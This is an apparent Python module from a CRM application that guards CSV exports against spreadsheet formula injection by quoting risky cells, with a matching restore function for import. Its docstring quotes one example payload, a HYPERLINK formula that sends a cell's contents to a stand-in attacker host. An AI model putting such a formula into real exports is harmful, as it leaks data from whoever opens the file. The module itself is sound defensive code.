"""CSV cells that a spreadsheet does not run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-``
or ``@`` (or with a tab or carriage return before one) as a formula:
``=HYPERLINK("http://evil.example?"&A1, "Click")`` in a contact's name would run in
the spreadsheet of whoever opens the export. Every CSV this program writes goes
through :func:`neutralise` (or :func:`writer` / :func:`dict_writer`), which puts a
single quote ``'`` before such a cell: spreadsheets then show it as text.

The rule (:func:`needs_quote`):

- A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or
  their full-width forms ``＝ ＋ － ＠``) gets the quote, **unless** it is a plain
  number or phone number: an optional sign followed only by digits, spaces and
  ``( ) . , / -`` (``-12.50``, ``-1.234,56``, ``+49 151 2345678``,
  ``+49 (0)711 123-45``). Such a cell holds no letters, no function call, no ``|``
  or ``!`` (DDE): a spreadsheet reads it as a number or text, never as code, and it
  stays usable (a phone number stays dialable, a negative amount a number).
- A cell that starts with ``'`` gets a second quote when the rest would be read back
  as a quoted cell (``'=x`` → ``''=x``), so that reading strips exactly one quote.
- Numbers (``int``, ``float``, ``Decimal``) are written as they are.

:func:`restore` is the exact inverse, used by the CSV import
(:mod:`crm_desktop.interop.csv_contacts`): ``restore(neutralise(x)) == x`` for every
text, so export → import is lossless.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

QUOTE = "'"
# what spreadsheets start a formula with (OWASP) and the full-width forms Excel folds
FORMULA_LEADS = frozenset("=+-@\t\r＝＋－＠")
# a number or phone number: optional sign, then digits and separators only
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9 ().,/-]*[0-9][0-9 ().,/-]*")


def needs_quote(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (see the module text)."""
    if not text:
        return False
    first = text[0]
    if first == QUOTE:
        return needs_quote(text[1:])
    return first in FORMULA_LEADS and _PLAIN_NUMBER.fullmatch(text) is None


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: text that could be a formula gets a ``'``."""
    if isinstance(value, str) and needs_quote(value):
        return QUOTE + value
    return value


def restore(text: str) -> str:
    """A cell as read from a CSV, with the quote :func:`neutralise` added taken off."""
    if text.startswith(QUOTE) and needs_quote(text[1:]):
        return text[1:]
    return text


class _SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` whose rows are neutralised cell by cell."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def writer(fh: Any, **kwargs: Any) -> _SafeWriter:
    """A ``csv.writer`` (same arguments) that neutralises every cell it writes."""
    return _SafeWriter(fh, **kwargs)


def dict_writer(fh: Any, fieldnames: list[str], **kwargs: Any) -> _SafeDictWriter:
    """A ``csv.DictWriter`` (same arguments) that neutralises every cell it writes."""
    return _SafeDictWriter(fh, fieldnames=fieldnames, **kwargs)
